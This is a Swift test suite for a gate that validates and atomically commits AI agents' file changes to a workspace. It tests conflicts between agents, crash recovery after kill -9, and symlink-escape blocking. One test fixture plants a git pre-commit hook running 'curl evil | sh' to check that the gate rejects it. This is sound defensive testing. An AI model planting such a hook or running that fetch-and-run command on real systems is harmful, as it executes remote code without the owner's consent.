// Commits on a real workspace: what lands, what a rejection leaves (nothing), conflicts between
// agents, the staged copy being what is applied, and kill -9 at any moment of a commit.

import Foundation
import Glibc
import Testing
@testable import WardenGate

@Suite struct GateTests {
    @Test func aCommitLandsWithModesLinksAndDeletions() throws {
        let fx = GateFixture()
        let gate = try fx.gate()
        fx.agentWrites("Sources/new.swift", "new\n")
        fx.agentWrites("Sources/main.swift", "main v1\n")
        chmod(fx.upper + "/Sources/new.swift", 0o600)
        symlink("main.swift", fx.upper + "/Sources/alias")
        let seq = try gate.commit(try fx.scan(), validator: validator(), run: "run-1")
        let version = try gate.version()
        #expect(seq == 1 && version == 1)
        #expect(fx.read("Sources/new.swift") == "new\n" && fx.read("Sources/main.swift") == "main v1\n")
        var st = stat()
        #expect(stat(fx.workspace + "/Sources/new.swift", &st) == 0 && st.st_mode & 0o777 == 0o600)
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: fx.workspace + "/Sources/alias")) == "main.swift")
        // What the commit replaced is kept for revert.
        #expect((try? String(contentsOfFile: fx.workspace + "/.warden/gate/history/1/old-2", encoding: .utf8)) == "main v0\n")
        let c = try #require(try gate.store.commit(1))
        #expect(c.role == "code" && c.run == "run-1" && c.changes.map(\.path) == ["Sources/alias", "Sources/main.swift", "Sources/new.swift"])
        #expect(c.changes.first { $0.path == "Sources/new.swift" }?.hash == sha256(Data("new\n".utf8)))

        fx.resetUpper()
        mkdirs(fx.upper + "/Sources")
        #expect(mknod(fx.upper + "/Sources/new.swift", S_IFCHR | 0o600, 0) == 0 || getuid() != 0)
        if getuid() == 0 {
            try gate.commit(try fx.scan(base: 1), validator: validator(), run: "run-2")
            #expect(fx.read("Sources/new.swift") == nil)
        }
    }

    @Test func aRejectedChangesetTouchesNothing() throws {
        let fx = GateFixture()
        let gate = try fx.gate()
        let before = fx.snapshot()
        fx.agentWrites("Sources/fine.swift", "fine")
        fx.agentWrites("Tests/t.swift", "sneaky")
        fx.agentWrites(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
        #expect(throws: GateRejection.self) { try gate.commit(try fx.scan(), validator: validator(), run: "r") }
        do {
            try gate.commit(try fx.scan(), validator: validator(), run: "r")
        } catch let r as GateRejection {
            #expect(Set(r.findings.map(\.path)) == ["Tests", "Tests/t.swift", ".git", ".git/hooks", ".git/hooks/pre-commit"]
                    || r.findings.contains { $0.path == "Tests/t.swift" }, "\(r)")
        }
        #expect(fx.snapshot() == before)
        #expect(try gate.version() == 0)
        #expect(!FileManager.default.fileExists(atPath: fx.workspace + "/.git"))
    }

    @Test func aStaleChangeIsAConflictNamingTheCommit() throws {
        let fx = GateFixture()
        let gate = try fx.gate()
        fx.agentWrites("Sources/main.swift", "from debug\n")
        try gate.commit(try fx.scan(base: 0), validator: validator("debug"), run: "run-debug")
        fx.resetUpper()
        fx.agentWrites("Sources/main.swift", "from code, stale\n")
        do {
            try gate.commit(try fx.scan(base: 0), validator: validator(), run: "run-code")
            Issue.record("a stale write was accepted")
        } catch let r as GateRejection {
            #expect(r.findings.map(\.rule) == [.conflict], "\(r)")
            #expect(r.findings[0].message.contains("commit 1 (role debug, run run-debug"), "\(r)")
        }
        #expect(fx.read("Sources/main.swift") == "from debug\n")
    }

    @Test func theStagedCopyIsWhatLands() throws {
        // The agent keeps writing after the scan: the size check happens again on the copy.
        let fx = GateFixture()
        let gate = try fx.gate()
        fx.agentWrites("Sources/grow", "small")
        let changeset = try fx.scan()
        put(fx.upper + "/Sources/grow", String(repeating: "x", count: 5000))
        let tight = validator(limits: GateLimits(maxFileBytes: 1000))
        #expect(throws: GateRejection.self) { try gate.commit(changeset, validator: tight, run: "r") }
        #expect(fx.read("Sources/grow") == nil)
        #expect(try FileManager.default.contentsOfDirectory(atPath: fx.workspace + "/.warden/gate/txn").isEmpty)
    }

    @Test func aSymlinkedParentInTheWorkspaceIsNotFollowed() throws {
        let fx = GateFixture()
        let outside = fx.base + "/outside"
        mkdirs(outside)
        symlink(outside, fx.workspace + "/Sources/escape")
        let gate = try fx.gate()
        fx.agentWrites("Sources/escape/pwned", "x")
        // The scan sees a directory Sources/escape in the upper layer; in the workspace it is
        // a symlink, which the gate replaces rather than writes through.
        try? gate.commit(try fx.scan(), validator: validator(), run: "r")
        #expect(!FileManager.default.fileExists(atPath: outside + "/pwned"))
    }

    @Test func sixteenAgentsLoseNoUpdate() throws {
        let fx = GateFixture()
        _ = try fx.gate()
        let uppers = (0..<16).map { i -> String in
            let u = fx.base + "/upper-\(i)"
            put(u + "/Sources/agent-\(i).swift", "agent \(i)\n")
            if i % 2 == 0 { put(u + "/Sources/shared.swift", "agent \(i)\n") }
            return u
        }
        let results = Locked<[Int: Result<Int64, Error>]>([:])
        DispatchQueue.concurrentPerform(iterations: 16) { i in
            let r = Result { () -> Int64 in
                let gate = try Gate(workspace: fx.workspace)
                return try gate.commit(try ChangesetScanner.scan(upper: uppers[i], base: 0), validator: validator(), run: "agent-\(i)")
            }
            results.mutate { $0[i] = r }
        }
        let all = results.value
        let accepted = all.filter { if case .success = $0.value { return true }; return false }.map(\.key)
        let evens = accepted.filter { $0 % 2 == 0 }
        #expect(evens.count == 1, "exactly one writer of shared.swift wins: \(accepted)")
        #expect(Set(accepted) == Set((0..<16).filter { $0 % 2 == 1 } + evens))
        for (i, r) in all {
            if case let .failure(e) = r {
                #expect((e as? GateRejection)?.findings.map(\.rule) == [.conflict], "agent \(i): \(e)")
            }
        }
        for i in accepted { #expect(fx.read("Sources/agent-\(i).swift") == "agent \(i)\n") }
        #expect(fx.read("Sources/shared.swift") == "agent \(evens.first ?? -1)\n")
        #expect(try Gate(workspace: fx.workspace).version() == Int64(accepted.count))
    }

    @Test func hashesAreLowercaseHexSHA256() {
        #expect(sha256(Data("abc".utf8)) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        #expect(sha256(Data()) == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
    }

    /// The first runs on a new workspace all create the gate store at once (CI saw the second
    /// `CREATE TABLE commits` fail): each must open it, and exactly one starts the manifest.
    @Test func gatesOpenedAtOnceOnANewWorkspaceAllSucceed() throws {
        for _ in 0..<10 {
            let fx = GateFixture()
            let errors = Locked<[String]>([])
            DispatchQueue.concurrentPerform(iterations: 8) { _ in
                do { _ = try Gate(workspace: fx.workspace).version() } catch { errors.mutate { $0.append("\(error)") } }
            }
            #expect(errors.value.isEmpty, "\(errors.value)")
            #expect(try Gate(workspace: fx.workspace).scanHumanEdits().isEmpty)
        }
    }

    /// The same, deterministically: the gate kills itself with SIGKILL right after each named
    /// step of a commit that replaces 12 files (staging each, the sync, the journal, keeping
    /// each old file, each rename, the directory syncs, the history, the index record, the
    /// cleanup), and the next start must leave all-old or all-new every time.
    @Test func killNineAfterEachStepOfACommitLeavesAllOldOrAllNew() throws {
        let fx = GateFixture()
        let stress = builtBinary("warden-gate-stress")
        let steps = ["synced", "journaled", "dirs synced", "history kept", "recorded", "done"]
            + (0...12).flatMap { ["staged \($0)", "kept \($0)", "applied \($0)"] }
        var killedAt: [String] = []
        for step in steps {
            var pid: pid_t = 0
            let words: [String] = [stress, fx.workspace, fx.upper, "2", "12"]
            let argv: [UnsafeMutablePointer<CChar>?] = words.map { strdup($0) } + [nil]
            let env: [UnsafeMutablePointer<CChar>?] = [strdup("WARDEN_GATE_STRESS_KILL_AT=\(step)"), nil]
            defer { (argv + env).forEach { free($0) } }
            guard posix_spawn(&pid, stress, nil, nil, argv, env) == 0 else { Issue.record("spawn"); return }
            var st: Int32 = 0
            waitpid(pid, &st, 0)
            if st & 0x7f == SIGKILL { killedAt.append(step) } else { #expect(st == 0, "\(step): status \(st)") }
            let gate = try Gate(workspace: fx.workspace)
            try gate.recover()
            let version = try gate.version()
            let contents = Set((0..<12).map { fx.read("Sources/f\($0)") })
            #expect(version > 0 && contents == ["\(version)\n"], "after \(step): version \(version), files \(contents)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: fx.workspace + "/.warden/gate/txn").isEmpty)
        }
        // Entry 0 is the Sources directory (applied, never staged or kept), 1...12 the files.
        #expect(killedAt.count == 6 + 12 * 3 + 1, "killed at \(killedAt)")
    }

    @Test func killNineAtAnyMomentLeavesAllOldOrAllNew() throws {
        let fx = GateFixture()
        let stress = builtBinary("warden-gate-stress")
        var kills = 0
        for round in 0..<150 {
            var pid: pid_t = 0
            let words: [String] = [stress, fx.workspace, fx.upper, "1000", "12"]
            let argv: [UnsafeMutablePointer<CChar>?] = words.map { strdup($0) } + [nil]
            defer { argv.forEach { free($0) } }
            guard posix_spawn(&pid, stress, nil, nil, argv, environ) == 0 else { Issue.record("spawn"); return }
            usleep(UInt32(20_000 + (round * 7919) % 60_000))
            kill(pid, SIGKILL)
            var st: Int32 = 0
            waitpid(pid, &st, 0)
            if st & 0x7f == SIGKILL { kills += 1 }
            // The next gate start settles any half-done commit, then every file must hold the
            // same round, and that round is the version the index records.
            let gate = try Gate(workspace: fx.workspace)
            try gate.recover()
            let version = try gate.version()
            let contents = Set((0..<12).map { fx.read("Sources/f\($0)") })
            if version == 0 {
                #expect(contents == [nil], "round \(round): \(contents)")
            } else {
                #expect(contents == ["\(version)\n"], "round \(round): version \(version), files \(contents)")
            }
            #expect(try FileManager.default.contentsOfDirectory(atPath: fx.workspace + "/.warden/gate/txn").isEmpty)
        }
        #expect(kills > 100, "the helper must be killed mid-run most of the time: \(kills)")
    }
}

/// A value shared between threads.
final class Locked<T>: @unchecked Sendable {
    private var v: T
    private let lock = NSLock()
    init(_ v: T) { self.v = v }
    var value: T { lock.lock(); defer { lock.unlock() }; return v }
    func mutate(_ f: (inout T) -> Void) { lock.lock(); f(&v); lock.unlock() }
}
